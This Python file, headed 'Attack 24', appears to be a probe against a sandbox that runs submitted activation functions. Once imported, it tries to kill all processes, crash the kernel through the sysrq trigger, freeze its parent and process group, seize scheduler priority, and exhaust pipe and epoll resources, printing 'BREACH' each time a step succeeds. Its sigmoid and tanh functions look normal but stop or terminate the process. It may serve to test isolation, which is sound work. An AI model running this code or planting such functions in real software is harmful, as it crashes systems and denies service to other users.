"""Attack 24: stop oneself, and starve the others of what the kernel shares out."""

import ctypes
import os
import select
import signal
import struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
for attempt in (
    lambda: os.nice(-20),
    lambda: os.setpriority(os.PRIO_PGRP, 0, -5),
    lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
    lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setaffinity(os.getppid(), {0}),
    lambda: os.killpg(os.getpgrp(), signal.SIGSTOP),
    lambda: os.kill(0, signal.SIGSTOP),
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.open("/proc/self/oom_score_adj", os.O_WRONLY | os.O_TRUNC) and None,
    lambda: open("/proc/sys/vm/drop_caches", "w").write("3"),
    lambda: open("/proc/sysrq-trigger", "w").write("c"),
    lambda: open("/proc/1/oom_score_adj", "w").write("1000"),
    lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("0"),
    lambda: open("/dev/watchdog", "w").write("V"),
):
    try:
        attempt()
    except OSError:
        continue
    print("BREACH", attempt.__code__.co_names, attempt.__code__.co_consts)
for name, number, arguments in (
    ("mlockall", 151, (1 | 2,)),
    ("mlock", 149, (ctypes.create_string_buffer(2**22), 2**22)),
    ("rt_sigqueueinfo", 129, (os.getppid(), 19, ctypes.create_string_buffer(128))),
    ("sched_setattr", 314, (0, struct.pack("<IIQiIQQQ", 48, 6, 0, 0, 0, 10**6, 10**7, 10**7), 0)),
    ("pidfd", 424, (3, 9, None, 0)),
    ("quotactl", 179, (0x800002, b"/", 0, None)),
    ("sync of all", 306, (-1,)),
):
    if libc.syscall(ctypes.c_long(number), *arguments) >= 0:
        print("BREACH call", name)
held, buffer = [], bytes(4096)
try:
    while len(held) < 4000:
        reader, writer = os.pipe()
        held += [reader, writer]
        os.set_blocking(writer, False)
        libc.fcntl(writer, 1031, 2**20)  # as large a pipe as there may be
        try:
            while os.write(writer, buffer):
                pass
        except BlockingIOError:
            pass
except OSError:
    pass
if len(held) > 1000:
    print("BREACH pipes", len(held))
for descriptor in held:
    os.close(descriptor)
pollers = []
try:
    while len(pollers) < 2000:
        pollers.append(select.epoll())
except OSError:
    pass
if len(pollers) > 1000:
    print("BREACH pollers", len(pollers))
pollers.clear()
print("tried to starve", len(held) > 4)


def sigmoid(x):
    signal.raise_signal(signal.SIGSTOP)
    return x


def tanh(x):
    signal.raise_signal(signal.SIGTERM)
    return x


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
